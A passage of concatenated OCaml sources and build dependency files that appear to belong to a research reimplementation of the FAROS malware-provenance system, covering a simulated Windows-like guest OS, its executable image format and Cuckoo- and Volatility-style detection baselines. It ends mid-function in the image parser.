   excluded), annotated with whether the loader put it there — the VAD
   metadata malfind keys on.  This is a *single point in time*: anything a
   transient attack scrubbed before the snapshot is simply gone, which is
   the paper's core argument for whole-execution visibility. *)

type region_kind = Image | Stack | Private

type region = {
  rg_pid : Faros_os.Types.pid;
  rg_process : string;
  rg_vaddr : int;
  rg_size : int;
  rg_kind : region_kind;
  rg_data : string;
}

type t = {
  regions : region list;
  proc_states : (int * string * string) list;
  proc_modules : (int * string list) list;
      (* per pid: loader-registered modules, what dlllist walks *)
}

let region_kind (p : Faros_os.Process.t) vaddr =
  let in_image (img : Faros_os.Pe.t) =
    vaddr >= img.base
    && vaddr < img.base + (Faros_os.Pe.mapped_pages img * Faros_vm.Phys_mem.page_size)
  in
  if
    vaddr >= Faros_os.Process.stack_base
    && vaddr < Faros_os.Process.stack_base
               + (Faros_os.Process.stack_pages * Faros_vm.Phys_mem.page_size)
  then Stack
  else if
    (match p.image with Some img -> in_image img | None -> false)
    || List.exists (fun (_, img) -> in_image img) p.modules
  then Image
  else Private

let take (kernel : Faros_os.Kernel.t) : t =
  let mmu = kernel.machine.mmu in
  let regions =
    List.concat_map
      (fun (p : Faros_os.Process.t) ->
        Faros_vm.Mmu.mapped_ranges p.space
        |> List.filter (fun (vaddr, _) -> vaddr < Faros_os.Export_table.kernel_base)
        |> List.map (fun (vaddr, size) ->
               {
                 rg_pid = p.pid;
                 rg_process = p.proc_name;
                 rg_vaddr = vaddr;
                 rg_size = size;
                 rg_kind = region_kind p vaddr;
                 rg_data =
                   Bytes.to_string
                     (Faros_vm.Mmu.read_bytes mmu ~asid:(Faros_os.Process.asid p)
                        vaddr size);
               }))
      (Faros_os.Kstate.processes kernel)
  in
  let proc_states =
    List.map
      (fun (p : Faros_os.Process.t) ->
        (p.pid, p.proc_name, Fmt.str "%a" Faros_os.Process.pp_state p.state))
      (Faros_os.Kstate.processes kernel)
  in
  let proc_modules =
    List.map
      (fun (p : Faros_os.Process.t) ->
        let image =
          match p.image with Some img -> [ img.Faros_os.Pe.img_name ] | None -> []
        in
        (p.pid, image @ List.map fst p.modules))
      (Faros_os.Kstate.processes kernel)
  in
  { regions; proc_states; proc_modules }

let regions_of t pid = List.filter (fun r -> r.rg_pid = pid) t.regions
