(** The Section VI-B comparison harness: run one sample under (a) Cuckoo
    alone, (b) Cuckoo + Volatility/malfind on the end-of-run memory dump,
    and (c) FAROS record/replay — then line the verdicts up. *)

type verdict = {
  v_sample : string;
  v_cuckoo : bool;
  v_malfind : bool;
  v_malfind_findings : int;
  v_hollowing_vadinfo : bool;
  v_faros : bool;
  v_faros_netflow : bool;  (** provenance links the attack to a netflow *)
  v_faros_sites : int;
  v_api_calls : int;
  v_raw_syscalls : int;
}

val run : Faros_corpus.Registry.sample -> verdict
val pp_header : unit Fmt.t
val pp_row : verdict Fmt.t
