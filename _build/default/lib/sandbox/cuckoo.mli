(** The Cuckoo-sandbox baseline (Section VI-B).

    An event-based monitor: it hooks {e library-level} API calls (the
    stubs), file activity, process lifecycle and network traffic — what
    real sandboxes collect — and takes no position on guest memory.
    Raw-syscall attacks are invisible to it, and even fully visible
    injection API calls do not let it reconstruct what executed in memory;
    that asymmetry is what the comparison demonstrates. *)

type api_call = {
  ac_pid : Faros_os.Types.pid;
  ac_process : string;
  ac_api : string;
  ac_args : int array;
}

type report = {
  mutable api_calls : api_call list;  (** newest first; stub calls only *)
  mutable raw_syscalls : int;
  mutable files_written : string list;
  mutable files_created : string list;
  mutable files_deleted : string list;
  mutable netflows : Faros_os.Types.flow list;
  mutable processes : (Faros_os.Types.pid * string) list;
  mutable dropped_then_spawned : string list;
  mutable popups : string list;
}

val create_report : unit -> report

val plugin : Faros_os.Kernel.t -> report * Faros_replay.Plugin.t
(** The monitor, ready to attach to a live (recording) run. *)

val flags_injection : report -> bool
(** Cuckoo's own verdict, without memory forensics: it can flag disk-borne
    droppers (artifact written then executed) but has no signal for
    in-memory-only injection. *)

val api_call_count : report -> int
val called : report -> string -> bool
val pp_summary : report Fmt.t
