lib/sandbox/cuckoo.mli: Faros_os Faros_replay Fmt
