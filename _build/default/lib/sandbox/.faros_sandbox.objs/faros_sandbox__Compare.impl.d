lib/sandbox/compare.ml: Core Cuckoo Faros_corpus Faros_dift Faros_replay Fmt List Malfind Memdump Option Volatility
