lib/sandbox/malfind.ml: Bytes Faros_os Faros_vm Fmt List Memdump String
