lib/sandbox/volatility.ml: Fmt List Memdump
