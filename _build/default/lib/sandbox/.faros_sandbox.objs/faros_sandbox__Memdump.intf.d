lib/sandbox/memdump.mli: Faros_os
