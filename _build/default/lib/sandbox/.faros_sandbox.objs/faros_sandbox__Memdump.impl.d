lib/sandbox/memdump.ml: Bytes Faros_os Faros_vm Fmt List
