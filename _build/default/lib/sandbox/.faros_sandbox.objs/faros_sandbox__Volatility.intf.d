lib/sandbox/volatility.mli: Fmt Memdump
