lib/sandbox/malfind.mli: Faros_os Fmt Memdump
