lib/sandbox/compare.mli: Faros_corpus Fmt
