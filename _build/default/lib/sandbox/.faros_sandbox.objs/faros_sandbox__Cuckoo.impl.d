lib/sandbox/cuckoo.ml: Faros_os Faros_replay Fmt List
