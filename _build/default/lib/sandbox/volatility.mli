(** Volatility-style snapshot forensics: pslist and vadinfo analogues. *)

type process_entry = { pe_pid : int; pe_name : string; pe_state : string }

val pslist : Memdump.t -> process_entry list

type vad = { vad_vaddr : int; vad_size : int; vad_kind : Memdump.region_kind }

val vadinfo : Memdump.t -> int -> vad list

val dlllist : Memdump.t -> int -> string list
(** Loader-registered modules of a process.  Reflectively loaded DLLs
    bypass the loader and never appear here — Section VI-B's "no trace of
    our DLL under the DLL list". *)

val hollowing_suspects : Memdump.t -> int list
(** The manual vadinfo investigation of Section VI-B: processes with no
    image-backed region left but private memory present. *)

val pp_process : process_entry Fmt.t
