(** Process creation: read an image from the filesystem, build an address
    space with the kernel mapped in, load the image, and report every byte
    that came from the file so provenance starts at the file. *)

exception Bad_executable of string

val spawn :
  Kstate.t -> path:string -> suspended:bool -> parent:Types.pid option -> Types.pid
