(** A miniature TCP-like network stack.

    Remote endpoints are {!actor}s: host-side scripts standing in for the
    attacker machine (Metasploit listener, C2 server, web server).  In live
    (record) mode actors respond to guest connects/sends and their payloads
    are handed to the record sink; in replay mode actors are never
    consulted and received data comes from the recorded trace — the PANDA
    record/replay discipline, where network input is the non-deterministic
    event.

    Ephemeral ports are allocated deterministically starting at
    {!first_ephemeral_port} = 49162, the port in the paper's Table II /
    Fig. 7 example. *)

type socket

(** A scripted remote endpoint. *)
type actor = {
  actor_name : string;
  actor_ip : Types.Ip.t;
  actor_port : int;
  on_connect : Types.flow -> string list;
      (** chunks to deliver when a guest connects *)
  on_data : Types.flow -> string -> string list;
      (** chunks to deliver in response to guest data *)
}

type t

exception Bad_socket of int
exception Connection_refused of Types.flow

val first_ephemeral_port : int

val create : local_ip:Types.Ip.t -> t

val set_record_sink : t -> (Types.flow -> string -> unit) -> unit
(** Called for every chunk delivered to a guest socket (record mode). *)

val set_replay_source : t -> (Types.flow -> string list) -> unit
(** Replace actors with recorded per-flow input (replay mode). *)

val register_actor : t -> actor -> unit

val socket : t -> int
(** Allocate a socket; returns its id. *)

val connect : t -> int -> ip:Types.Ip.t -> port:int -> Types.flow
(** Connect to a remote endpoint.  Returns the flow describing inbound data
    (src = remote, dst = local ephemeral).  Raises
    {!Connection_refused} in live mode when no actor listens there. *)

val send : t -> int -> string -> int
(** Send guest data; live-mode actors may respond.  Returns bytes sent. *)

val recv : t -> int -> len:int -> string
(** Byte-stream receive: at most [len] bytes, [""] when nothing pending. *)

val loopback_ip : Types.Ip.t

val bind : t -> int -> port:int -> unit
(** Claim a local port for a listening socket.  Raises {!Bad_socket} if the
    port is taken. *)

val listen : t -> int -> unit
(** Mark a bound socket as listening.  Raises {!Bad_socket} if unbound. *)

val accept : t -> int -> int option
(** Pop a pending loopback connection; [None] when nothing is waiting.
    Loopback (guest-to-guest) traffic is deterministic and bypasses both
    the record sink and the replay source. *)

val flow_of : t -> int -> Types.flow option
val close : t -> int -> unit

val sent_traffic : t -> (Types.flow * string) list
(** Outbound traffic in order — the packet capture a sandbox keeps. *)
