(** The guest's in-memory filesystem.

    Files carry a version counter incremented on each open-for-access,
    which is exactly the payload of the paper's file tag (Fig. 5: file name
    plus "how many times a file has been accessed"). *)

type file = { mutable data : Bytes.t; mutable version : int }

type t

exception No_such_file of string

val create : unit -> t
val exists : t -> string -> bool

val find : t -> string -> file
(** Raises {!No_such_file}. *)

val create_file : t -> string -> file
(** Create (truncating if present); bumps the version. *)

val open_file : t -> string -> file
(** Open for access; bumps the version.  Raises {!No_such_file}. *)

val delete : t -> string -> unit

val size : t -> string -> int
val version : t -> string -> int

val install : t -> string -> string -> unit
(** Provision file contents wholesale (images, input data). *)

val read_all : t -> string -> string

val read : file -> offset:int -> len:int -> Bytes.t
(** Short read past end of file; empty at or beyond the end. *)

val write : file -> offset:int -> Bytes.t -> unit
(** Extends the file, zero-filling any gap. *)

val list : t -> string list
(** All paths, sorted. *)
