(** Loader and device syscall handlers. *)

type handler := Kstate.t -> Process.t -> int array -> int

val load_library : handler
(** The benign Windows loading path the reflective technique bypasses. *)

val get_proc_address : handler
(** Kernel-side symbol resolution: the process never touches the export
    directory itself. *)

val key_read : handler
val audio_record : handler
val screenshot : handler
val popup : handler
val debug_print : handler
