(** The kernel: syscall dispatch and the whole-system run loop.

    This is the miniature Windows 7 the analyses introspect.  Syscalls
    arriving through a kernel API stub are marked [via_stub] — those are
    the only calls a library-level monitor (the Cuckoo baseline) can see,
    while raw SYSCALLs from user code bypass it, as the paper's loaders
    do. *)

type t = Kstate.t

val create : ?local_ip:Types.Ip.t -> unit -> t
(** A fresh machine with the kernel region built.  The default local IP is
    169.254.57.168, the victim address in the paper's figures. *)

val subscribe : t -> (Os_event.t -> unit) -> unit

val install_image : t -> path:string -> Pe.t -> unit
(** Provision an executable image into the guest filesystem. *)

val spawn : t -> ?suspended:bool -> ?parent:Types.pid -> string -> Types.pid
(** Load an image file and create its process.  Raises
    {!Spawn.Bad_executable} for missing or malformed images. *)

val run : ?max_ticks:int -> ?timeslice:int -> t -> unit
(** Run the whole system round-robin until every process has terminated (or
    is stuck suspended), or [max_ticks] instructions have executed. *)

val tick : t -> int
(** Instructions executed so far, whole system. *)
