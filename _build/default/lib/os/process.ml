(* Process control blocks.

   One CPU per process (single-threaded guests).  The address-space id is
   the process's CR3 — the identity FAROS's process tags carry.  Terminated
   processes keep their address space so end-of-run memory forensics (the
   Volatility baseline) can still walk them. *)

type state = Ready | Suspended | Terminated

type file_handle = { path : string; mutable pos : int }

type handle_obj = Hfile of file_handle | Hsock of int | Hproc of Types.pid

type t = {
  pid : Types.pid;
  mutable proc_name : string;
  cpu : Faros_vm.Cpu.t;
  space : Faros_vm.Mmu.space;
  mutable state : state;
  parent : Types.pid option;
  handles : (Types.handle, handle_obj) Hashtbl.t;
  mutable next_handle : int;
  mutable heap_next : int;
  mutable image : Pe.t option;
  mutable modules : (string * Pe.t) list;  (* runtime-loaded DLLs *)
  mutable exit_code : int;
  mutable fault : Faros_vm.Cpu.fault option;
  mutable slice_budget : int;  (* instructions left in the current slice *)
}

(* Guest virtual-memory layout. *)
let image_base = 0x00400000
let dll_base = 0x00800000
let heap_base = 0x10000000
let stack_pages = 32
let stack_base = 0x7FFE0000
let initial_sp = 0x7FFFFFF0

let asid t = t.space.Faros_vm.Mmu.asid

let alloc_handle t obj =
  let h = t.next_handle in
  t.next_handle <- h + 1;
  Hashtbl.replace t.handles h obj;
  h

let find_handle t h = Hashtbl.find_opt t.handles h

let close_handle t h = Hashtbl.remove t.handles h

let is_ready t = t.state = Ready

let pp_state ppf = function
  | Ready -> Fmt.string ppf "ready"
  | Suspended -> Fmt.string ppf "suspended"
  | Terminated -> Fmt.string ppf "terminated"
