(** MiniPE: the guest's executable image format.

    A deliberately small analogue of the Windows PE format with the pieces
    the paper's attacks manipulate: sections mapped at fixed virtual
    addresses, an import table the loader resolves against kernel exports
    (writing resolved addresses into IAT slots inside the image), and an
    export list for DLL images.  Images serialize to bytes so they live in
    the guest filesystem and acquire file provenance when loaded. *)

type section = {
  sec_name : string;
  sec_vaddr : int;
  sec_data : string;
  sec_exec : bool;
  sec_write : bool;
}

type t = {
  img_name : string;
  base : int;
  entry : int;
  sections : section list;
  imports : (string * int) list;  (** function name -> IAT slot vaddr *)
  exports : (string * int) list;  (** function name -> vaddr *)
}

exception Bad_image of string

val of_program :
  name:string ->
  base:int ->
  ?imports:string list ->
  ?exports:string list ->
  Faros_vm.Asm.item list ->
  t
(** Build an image from an assembler program.  Entry point is the ["start"]
    label if present, else the image base.  An IAT slot labelled
    [iat_<name>] is appended for each import; code calls imports with
    [Mov_label (r, "iat_<name>"); Load (4, r, based r); Call_r r].
    Exported names must be labels of the program. *)

val serialize : t -> string
(** Binary image format ("MPE1"). *)

val parse : string -> t
(** Inverse of {!serialize}.  Raises {!Bad_image}. *)

val mapped_pages : t -> int
(** Total mapped span of the image, page-rounded. *)
