(* Shared kernel object identifiers and small helpers. *)

type pid = int
type handle = int

(* IPv4 addresses as 32-bit words, dotted-quad for display. *)
module Ip = struct
  type t = int

  let of_string s =
    match String.split_on_char '.' s with
    | [ a; b; c; d ] ->
      let p x =
        let v = int_of_string x in
        if v < 0 || v > 255 then invalid_arg ("Ip.of_string: " ^ s);
        v
      in
      (p a lsl 24) lor (p b lsl 16) lor (p c lsl 8) lor p d
    | _ -> invalid_arg ("Ip.of_string: " ^ s)

  let to_string v =
    Printf.sprintf "%d.%d.%d.%d"
      ((v lsr 24) land 0xFF)
      ((v lsr 16) land 0xFF)
      ((v lsr 8) land 0xFF)
      (v land 0xFF)

  let pp ppf v = Fmt.string ppf (to_string v)
end

(* A network flow: the paper's netflow-tag payload (Fig. 5). *)
type flow = { src_ip : Ip.t; src_port : int; dst_ip : Ip.t; dst_port : int }

let pp_flow ppf f =
  Fmt.pf ppf "{src ip,port: %a:%d, dest ip.port: %a:%d}" Ip.pp f.src_ip
    f.src_port Ip.pp f.dst_ip f.dst_port

let flow_equal (a : flow) b = a = b
