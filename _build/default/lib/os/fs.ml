(* The guest's in-memory filesystem.

   Files carry a version counter incremented on each open-for-access, which
   is exactly the payload of the paper's file tag (Fig. 5: file name +
   "how many times a file has been accessed"). *)

type file = { mutable data : Bytes.t; mutable version : int }

type t = { files : (string, file) Hashtbl.t }

exception No_such_file of string

let create () = { files = Hashtbl.create 32 }

let exists t path = Hashtbl.mem t.files path

let find t path =
  match Hashtbl.find_opt t.files path with
  | Some f -> f
  | None -> raise (No_such_file path)

(* Creating truncates; returns the file. *)
let create_file t path =
  match Hashtbl.find_opt t.files path with
  | Some f ->
    f.data <- Bytes.create 0;
    f.version <- f.version + 1;
    f
  | None ->
    let f = { data = Bytes.create 0; version = 1 } in
    Hashtbl.replace t.files path f;
    f

let open_file t path =
  let f = find t path in
  f.version <- f.version + 1;
  f

let delete t path =
  if not (exists t path) then raise (No_such_file path);
  Hashtbl.remove t.files path

let size t path = Bytes.length (find t path).data

let version t path = (find t path).version

(* Install file contents wholesale (used to provision images and inputs). *)
let install t path data =
  let f = create_file t path in
  f.data <- Bytes.of_string data

let read_all t path = Bytes.to_string (find t path).data

let read f ~offset ~len =
  let avail = max 0 (Bytes.length f.data - offset) in
  let n = min len avail in
  if n <= 0 then Bytes.create 0 else Bytes.sub f.data offset n

let write f ~offset data =
  let needed = offset + Bytes.length data in
  if needed > Bytes.length f.data then begin
    let grown = Bytes.make needed '\000' in
    Bytes.blit f.data 0 grown 0 (Bytes.length f.data);
    f.data <- grown
  end;
  Bytes.blit data 0 f.data offset (Bytes.length data)

let list t = Hashtbl.fold (fun path _ acc -> path :: acc) t.files [] |> List.sort compare
