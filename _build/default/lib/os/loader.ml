(* Image loader.

   Maps a MiniPE image into an address space, copies section bytes in, and
   resolves imports by writing kernel-stub addresses into the image's IAT
   slots — the benign linking path, which never makes the *process* read the
   export directory (the kernel does the lookup), so ordinary imports never
   trip FAROS's export-table policy.

   Returns the physical addresses that received file bytes so the kernel can
   report the load as a file-read for provenance purposes. *)

type loaded = {
  ld_image : Pe.t;
  ld_entry : int;
  ld_section_paddrs : (string * int list) list;  (* section name -> paddrs *)
}

exception Unresolved_import of string

let load (mmu : Faros_vm.Mmu.t) (space : Faros_vm.Mmu.space)
    (exports : Export_table.t) (image : Pe.t) : loaded =
  let pages = Pe.mapped_pages image in
  Faros_vm.Mmu.map mmu space ~vaddr:image.base ~pages;
  let asid = space.asid in
  let section_paddrs =
    List.map
      (fun (s : Pe.section) ->
        Faros_vm.Mmu.write_bytes mmu ~asid s.sec_vaddr (Bytes.of_string s.sec_data);
        ( s.sec_name,
          Faros_vm.Mmu.phys_range mmu ~asid s.sec_vaddr (String.length s.sec_data) ))
      image.sections
  in
  List.iter
    (fun (api, slot) ->
      match List.assoc_opt api exports.exports with
      | Some addr -> Faros_vm.Mmu.write ~width:4 mmu ~asid slot addr
      | None -> raise (Unresolved_import api))
    image.imports;
  { ld_image = image; ld_entry = image.entry; ld_section_paddrs = section_paddrs }
