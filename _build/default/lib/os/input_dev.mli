(** Scripted user-input devices.

    Keystrokes are external, non-deterministic input (the workload an
    analyst types while recording) and therefore go through the same
    record/replay discipline as network packets.  Audio and screen capture
    return synthetic data generated deterministically from an internal
    counter, so they need no recording. *)

type t

val create : unit -> t

val script_keys : t -> int list -> unit
val script_string : t -> string -> unit
(** Queue live-mode keystrokes. *)

val set_record_sink : t -> (int -> unit) -> unit
val set_replay_keys : t -> int list -> unit

val read_key : t -> int
(** Next keystroke, or 0 when the script is exhausted. *)

val read_audio : t -> int -> Bytes.t
(** Deterministic synthetic PCM-ish bytes. *)

val read_frame : t -> int -> Bytes.t
(** Deterministic synthetic frame bytes. *)
