lib/os/pe.ml: Buffer Bytes Char Faros_vm List String
