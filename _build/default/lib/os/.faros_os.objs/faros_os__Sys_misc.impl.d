lib/os/sys_misc.ml: Array Bytes Faros_vm Fs Input_dev Kstate List Loader Os_event Pe Process
