lib/os/loader.mli: Export_table Faros_vm Pe
