lib/os/export_table.mli: Faros_vm
