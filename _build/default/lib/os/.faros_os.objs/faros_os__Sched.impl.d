lib/os/sched.ml: Kstate List Process
