lib/os/sys_proc.mli: Kstate Process
