lib/os/input_dev.ml: Bytes Char List String
