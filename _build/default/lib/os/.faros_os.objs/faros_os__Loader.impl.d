lib/os/loader.ml: Bytes Export_table Faros_vm List Pe String
