lib/os/netstack.mli: Types
