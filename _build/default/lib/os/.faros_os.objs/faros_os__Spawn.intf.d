lib/os/spawn.mli: Kstate Types
