lib/os/os_event.mli: Types
