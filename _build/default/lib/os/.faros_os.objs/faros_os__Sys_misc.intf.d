lib/os/sys_misc.mli: Kstate Process
