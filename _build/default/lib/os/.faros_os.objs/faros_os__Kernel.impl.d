lib/os/kernel.ml: Array Export_table Faros_vm Fs Kstate Os_event Pe Process Sched Spawn Sys_file Sys_mem Sys_misc Sys_net Sys_proc Syscall Types
