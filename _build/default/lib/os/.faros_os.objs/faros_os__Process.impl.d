lib/os/process.ml: Faros_vm Fmt Hashtbl Pe Types
