lib/os/types.ml: Fmt Printf String
