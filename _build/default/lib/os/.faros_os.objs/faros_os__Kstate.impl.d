lib/os/kstate.ml: Bytes Export_table Faros_vm Fs Hashtbl Input_dev List Netstack Os_event Printf Process Types
