lib/os/sys_mem.ml: Array Faros_vm Kstate Os_event Process
