lib/os/sys_file.ml: Array Bytes Faros_vm Fs Kstate List Netstack Os_event Process
