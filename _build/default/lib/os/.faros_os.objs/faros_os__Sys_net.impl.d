lib/os/sys_net.ml: Array Bytes Faros_vm Kstate Netstack Os_event Process String
