lib/os/pe.mli: Faros_vm
