lib/os/os_event.ml: Types
