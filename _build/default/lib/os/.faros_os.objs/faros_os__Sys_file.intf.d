lib/os/sys_file.mli: Kstate Process
