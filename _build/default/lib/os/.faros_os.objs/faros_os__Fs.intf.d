lib/os/fs.mli: Bytes
