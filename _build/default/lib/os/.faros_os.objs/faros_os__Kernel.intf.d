lib/os/kernel.mli: Kstate Os_event Pe Types
