lib/os/sys_net.mli: Kstate Process
