lib/os/syscall.ml: Printf
