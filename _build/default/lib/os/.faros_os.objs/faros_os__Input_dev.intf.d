lib/os/input_dev.mli: Bytes
