lib/os/types.mli: Fmt
