lib/os/spawn.ml: Bytes Export_table Faros_vm Fs Hashtbl Kstate List Loader Os_event Pe Process Types
