lib/os/netstack.ml: Buffer Hashtbl List Queue String Types
