lib/os/process.mli: Faros_vm Fmt Hashtbl Pe Types
