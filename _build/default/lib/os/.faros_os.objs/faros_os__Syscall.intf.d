lib/os/syscall.mli:
