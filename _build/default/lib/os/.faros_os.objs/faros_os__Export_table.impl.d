lib/os/export_table.ml: Bytes Char Faros_vm List String Syscall
