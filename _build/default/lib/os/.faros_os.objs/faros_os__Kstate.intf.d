lib/os/kstate.mli: Bytes Export_table Faros_vm Fs Hashtbl Input_dev Netstack Os_event Process Types
