lib/os/sys_mem.mli: Kstate Process
