lib/os/fs.ml: Bytes Hashtbl List
