lib/os/sched.mli: Kstate Process
