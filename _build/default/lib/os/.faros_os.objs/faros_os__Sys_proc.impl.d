lib/os/sys_proc.ml: Array Faros_vm Kstate List Os_event Process Spawn
