(** Process control blocks.

    One CPU per process (single-threaded guests).  The address-space id is
    the process's CR3 — the identity FAROS's process tags carry.
    Terminated processes keep their address space so end-of-run memory
    forensics (the Volatility baseline) can still walk them. *)

type state = Ready | Suspended | Terminated

type file_handle = { path : string; mutable pos : int }

type handle_obj = Hfile of file_handle | Hsock of int | Hproc of Types.pid

type t = {
  pid : Types.pid;
  mutable proc_name : string;
  cpu : Faros_vm.Cpu.t;
  space : Faros_vm.Mmu.space;
  mutable state : state;
  parent : Types.pid option;
  handles : (Types.handle, handle_obj) Hashtbl.t;
  mutable next_handle : int;
  mutable heap_next : int;  (** next NtAllocateVirtualMemory result *)
  mutable image : Pe.t option;
  mutable modules : (string * Pe.t) list;  (** runtime-loaded DLLs *)
  mutable exit_code : int;
  mutable fault : Faros_vm.Cpu.fault option;
  mutable slice_budget : int;
}

(** {2 Guest virtual-memory layout} *)

val image_base : int
val dll_base : int
val heap_base : int
val stack_pages : int
val stack_base : int
val initial_sp : int

val asid : t -> int
(** The process's CR3. *)

val alloc_handle : t -> handle_obj -> Types.handle
val find_handle : t -> Types.handle -> handle_obj option
val close_handle : t -> Types.handle -> unit

val is_ready : t -> bool
val pp_state : state Fmt.t
