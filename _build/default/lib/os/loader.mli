(** Image loader.

    Maps a MiniPE image into an address space, copies section bytes in, and
    resolves imports by writing kernel-stub addresses into the image's IAT
    slots — the benign linking path, under which the {e process} never
    reads the export directory (the kernel does the lookup), so ordinary
    imports never trip FAROS's export-table policy. *)

type loaded = {
  ld_image : Pe.t;
  ld_entry : int;
  ld_section_paddrs : (string * int list) list;
      (** per section: the physical addresses that received file bytes, so
          the kernel can report the load as a file read *)
}

exception Unresolved_import of string

val load : Faros_vm.Mmu.t -> Faros_vm.Mmu.space -> Export_table.t -> Pe.t -> loaded
