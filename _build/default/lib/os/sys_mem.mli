(** Virtual-memory syscall handlers: allocation, cross-process copies,
    unmapping.

    [write_virtual_memory] is the injection primitive; the kernel performs
    the copy host-side and reports source and destination physical
    addresses so the DIFT engine can apply per-byte copy propagation across
    address spaces — the step that carries netflow provenance from the
    injecting client into the victim. *)

type handler := Kstate.t -> Process.t -> int array -> int

val allocate : handler
val write_virtual_memory : handler
val read_virtual_memory : handler
val unmap_view : handler
