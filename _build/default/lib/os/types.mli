(** Shared kernel object identifiers and small helpers. *)

type pid = int
type handle = int

(** IPv4 addresses as 32-bit words, dotted-quad for display. *)
module Ip : sig
  type t = int

  val of_string : string -> t
  (** Parse dotted-quad.  Raises [Invalid_argument] on malformed input. *)

  val to_string : t -> string
  val pp : t Fmt.t
end

(** A network flow: the paper's netflow-tag payload (Fig. 5).  For data a
    guest receives, [src] is the remote endpoint and [dst] the local one. *)
type flow = { src_ip : Ip.t; src_port : int; dst_ip : Ip.t; dst_port : int }

val pp_flow : flow Fmt.t
(** Rendered exactly as Table II prints netflows. *)

val flow_equal : flow -> flow -> bool
