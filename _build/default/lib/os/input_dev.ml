(* Scripted user-input devices.

   Keystrokes are external, non-deterministic input (the user workload an
   analyst types while recording) and therefore go through the same
   record/replay discipline as network packets.  Audio and screen capture
   return synthetic data generated deterministically from an internal
   counter, so they need no recording. *)

type t = {
  mutable pending_keys : int list;  (* live-mode script *)
  mutable replay_keys : int list option;  (* replayed trace, if any *)
  mutable record_sink : (int -> unit) option;
  mutable audio_counter : int;
  mutable frame_counter : int;
}

let create () =
  {
    pending_keys = [];
    replay_keys = None;
    record_sink = None;
    audio_counter = 0;
    frame_counter = 0;
  }

let script_keys t keys = t.pending_keys <- t.pending_keys @ keys

let script_string t s =
  script_keys t (List.init (String.length s) (fun i -> Char.code s.[i]))

let set_record_sink t f = t.record_sink <- Some f
let set_replay_keys t keys = t.replay_keys <- Some keys

(* Next keystroke, or 0 when the script is exhausted. *)
let read_key t =
  match t.replay_keys with
  | Some (k :: rest) ->
    t.replay_keys <- Some rest;
    k
  | Some [] -> 0
  | None -> (
    match t.pending_keys with
    | [] -> 0
    | k :: rest ->
      t.pending_keys <- rest;
      (match t.record_sink with Some sink -> sink k | None -> ());
      k)

(* Deterministic synthetic PCM-ish bytes. *)
let read_audio t len =
  let b = Bytes.create len in
  for i = 0 to len - 1 do
    t.audio_counter <- (t.audio_counter + 37) land 0xFF;
    Bytes.set b i (Char.chr t.audio_counter)
  done;
  b

(* Deterministic synthetic frame bytes. *)
let read_frame t len =
  t.frame_counter <- t.frame_counter + 1;
  Bytes.init len (fun i -> Char.chr ((t.frame_counter + (i * 13)) land 0xFF))
