(* MiniPE: the guest's executable image format.

   A deliberately small analogue of the Windows PE format with the pieces
   the paper's attacks manipulate: sections mapped at fixed virtual
   addresses, an import table the loader resolves against kernel exports
   (writing resolved addresses into IAT slots inside the image), and an
   export list for DLL images.  Images serialize to bytes so they live in
   the guest filesystem and acquire file provenance when loaded. *)

type section = {
  sec_name : string;
  sec_vaddr : int;
  sec_data : string;
  sec_exec : bool;
  sec_write : bool;
}

type t = {
  img_name : string;
  base : int;
  entry : int;
  sections : section list;
  imports : (string * int) list;  (* function name -> IAT slot vaddr *)
  exports : (string * int) list;  (* function name -> vaddr *)
}

exception Bad_image of string

(* Build an image from an assembler program.  Entry point is the "start"
   label if present, else the image base.  An IAT slot labelled
   ["iat_<name>"] is appended for each import; code calls imports with
   [Load r, [iat_<name>]; Call_r r]. *)
let of_program ~name ~base ?(imports = []) ?(exports = []) items =
  let iat_items =
    List.concat_map
      (fun imp -> [ Faros_vm.Asm.Label ("iat_" ^ imp); Faros_vm.Asm.U32 0 ])
      imports
  in
  let prog =
    Faros_vm.Asm.assemble ~origin:base (items @ (Faros_vm.Asm.Align 4 :: iat_items))
  in
  let lookup l = Faros_vm.Asm.lookup prog l in
  let entry =
    match List.assoc_opt "start" prog.symbols with Some a -> a | None -> base
  in
  {
    img_name = name;
    base;
    entry;
    sections =
      [
        {
          sec_name = ".text";
          sec_vaddr = base;
          sec_data = Bytes.to_string prog.code;
          sec_exec = true;
          sec_write = true;
        };
      ];
    imports = List.map (fun imp -> (imp, lookup ("iat_" ^ imp))) imports;
    exports = List.map (fun e -> (e, lookup e)) exports;
  }

(* -- serialization -- *)

let magic = "MPE1"

let put_u32 buf v =
  Buffer.add_char buf (Char.chr (v land 0xFF));
  Buffer.add_char buf (Char.chr ((v lsr 8) land 0xFF));
  Buffer.add_char buf (Char.chr ((v lsr 16) land 0xFF));
  Buffer.add_char buf (Char.chr ((v lsr 24) land 0xFF))

let put_str buf s =
  put_u32 buf (String.length s);
  Buffer.add_string buf s

let serialize t =
  let buf = Buffer.create 512 in
  Buffer.add_string buf magic;
  put_str buf t.img_name;
  put_u32 buf t.base;
  put_u32 buf t.entry;
  put_u32 buf (List.length t.sections);
  List.iter
    (fun s ->
      put_str buf s.sec_name;
      put_u32 buf s.sec_vaddr;
      put_u32 buf ((if s.sec_exec then 1 else 0) lor if s.sec_write then 2 else 0);
      put_str buf s.sec_data)
    t.sections;
  put_u32 buf (List.length t.imports);
  List.iter
    (fun (n, slot) ->
      put_str buf n;
      put_u32 buf slot)
    t.imports;
  put_u32 buf (List.length t.exports);
  List.iter
    (fun (n, a) ->
      put_str buf n;
      put_u32 buf a)
    t.exports;
  Buffer.contents buf

type reader = { src : string; mutable pos : int }

let get_u32 r =
  if r.pos + 4 > String.length r.src then raise (Bad_image "truncated u32");
  let b i = Char.code r.src.[r.pos + i] in
  let v = b 0 lor (b 1 lsl 8) lor (b 2 lsl 16) lor (b 3 lsl 24) in
  r.pos <- r.pos + 4;
  v

let get_str r =
  let n = get_u32 r in
  if r.pos + n > String.length r.src then raise (Bad_image "truncated string");
  let s = String.sub r.src r.pos n in
  r.pos <- r.pos + n;
  s

let parse src =
  if String.length src < 4 || String.sub src 0 4 <> magic then
    raise (Bad_image "bad magic");
  let r = { src; pos = 4 } in
  let img_name = get_str r in
  let base = get_u32 r in
  let entry = get_u32 r in
  let nsec = get_u32 r in
  let sections =
    List.init nsec (fun _ ->
        let sec_name = get_str r in
        let sec_vaddr = get_u32 r in
        let flags = get_u32 r in
        let sec_data = get_str r in
        {
          sec_name;
          sec_vaddr;
          sec_data;
          sec_exec = flags land 1 <> 0;
          sec_write = flags land 2 <> 0;
        })
  in
  let nimp = get_u32 r in
  let imports =
    List.init nimp (fun _ ->
        let n = get_str r in
        (n, get_u32 r))
  in
  let nexp = get_u32 r in
  let exports =
    List.init nexp (fun _ ->
        let n = get_str r in
        (n, get_u32 r))
  in
